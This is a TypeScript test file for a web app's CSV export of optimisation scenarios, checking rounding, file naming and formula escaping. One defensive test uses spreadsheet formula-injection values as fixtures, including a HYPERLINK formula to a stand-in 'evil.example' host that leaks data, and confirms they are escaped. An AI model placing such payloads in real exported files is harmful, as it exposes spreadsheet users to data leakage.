import { createMemoryHistory, RouterProvider } from '@tanstack/react-router';
import { fireEvent, screen, waitFor } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { toCsv } from 'scenarist/client';
import { csvNumber, overviewCsv, overviewFileName } from '../src/pages/overview-csv.ts';
import { buildRouter } from '../src/router.tsx';
import { kpi, scenario } from './fixtures.ts';
import { renderWithApi } from './render-with-api.tsx';

const BASE = '/api/v1/sessions/s-1234';

const annealing = scenario({
  id: 'a1',
  tag: 'annealing',
  status: 'COMPLETE',
  finished_at: '2026-11-23T08:00:02.500Z',
  algorithm: { name: 'Annealing', parameters: [{ name: 'iterations', type: 'integer', required: true, value: 60000 }] },
  data_parameters: { min_picks: 2 },
  kpis: { 'Travel Distance': kpi('Travel Distance', 389047.24200000014), Moves: { ...kpi('Moves', 12), unit: '' } },
});
const greedy = scenario({
  id: 'g1',
  tag: 'greedy, fast',
  status: 'COMPLETE',
  finished_at: '2026-11-23T08:00:03.000Z',
  algorithm: { name: 'Greedy', parameters: [{ name: 'max_moves', type: 'integer', required: true, value: 25 }] },
  kpis: { 'Travel Distance': kpi('Travel Distance', -0.004), Moves: { ...kpi('Moves', 3), unit: '' } },
});

/** What the page offers as a download: the file's name and text. */
async function exported(): Promise<{ name: string; text: string }> {
  const blobs: Blob[] = [];
  const names: string[] = [];
  vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => {
    blobs.push(blob as Blob);
    return 'blob:overview';
  });
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    names.push(this.download);
  });
  fireEvent.click(await screen.findByRole('button', { name: 'Export CSV' }));
  await waitFor(() => expect(names).toHaveLength(1));
  return { name: names[0]!, text: await blobs[0]!.text() };
}

afterEach(() => vi.restoreAllMocks());

describe("the overview's CSV (fix 15)", () => {
  it('rounds KPIs as shown, adds every parameter, and is named after the session and the day', async () => {
    vi.useFakeTimers({ toFake: ['Date'], now: new Date(2026, 10, 27, 12, 0) });
    const router = buildRouter(createMemoryHistory({ initialEntries: ['/s/s-1234/overview'] }));
    renderWithApi(<RouterProvider router={router} />, {
      'GET /api/v1/sessions': () => ({ body: { sessions: [{ id: 's-1234', display_name: 'Warehouse trial' }] } }),
      [`GET ${BASE}/scenarios`]: () => ({ body: [annealing, greedy] }),
    });
    await screen.findByRole('link', { name: 'annealing' });
    const { name, text } = await exported();
    vi.useRealTimers();
    expect(name).toBe('Warehouse-trial-scenarios-2026-11-27.csv');
    expect(text.trim().split('\r\n')).toEqual([
      'Scenario,Algorithm,Dataset,Finished,Travel Distance (m),Moves,algo_params.iterations,algo_params.max_moves,data_params.min_picks',
      'annealing,Annealing,example,2026-11-23T08:00:02.500Z,389047.242,12,60000,,2',
      '"greedy, fast",Greedy,example,2026-11-23T08:00:03.000Z,-0.004,3,,25,',
    ]);
  });
});

describe('CSV helpers', () => {
  it('writes numbers without float noise, plainly, keeping small values', () => {
    expect(csvNumber(389047.24200000014)).toBe(389047.242);
    expect(csvNumber(0.1 + 0.2)).toBe(0.3);
    expect(csvNumber(-1234.5)).toBe(-1234.5);
    expect(csvNumber(-0.001)).toBe(-0.001);
    expect(csvNumber(0.0042)).toBe(0.0042);
    expect(csvNumber(-0)).toBe(0);
    expect(csvNumber(null)).toBeNull();
    expect(csvNumber(Number.NaN)).toBeNull();
  });

  it('writes text a spreadsheet would run as a formula as text, and negative numbers as numbers (issue #41)', () => {
    const trap = scenario({
      ...greedy,
      id: 't1',
      tag: '=HYPERLINK("http://evil.example/?leak","click")',
      input_data_id: '@SUM(1+1)',
      algorithm: { name: '+cmd', parameters: [{ name: 'max_moves', type: 'integer', required: true, value: -3 }] },
      data_parameters: { min_picks: '-2+3', zone: '\tTAB' },
    });
    const { header, body } = overviewCsv([trap], ['Travel Distance'], {});
    const lines = toCsv(header, body).trim().split('\r\n');
    expect(lines[1]).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak"",""click"")","'+cmd","'@SUM(1+1)",2026-11-23T08:00:03.000Z,-0.004,-3,"'-2+3","'\tTAB"`,
    );
  });

  it('names the file after the session, in characters a file system takes', () => {
    expect(overviewFileName('Trial: week 48 / north', new Date(2026, 0, 5))).toBe('Trial-week-48-north-scenarios-2026-01-05.csv');
    expect(overviewFileName('  ', new Date(2026, 0, 5))).toBe('session-scenarios-2026-01-05.csv');
  });
});
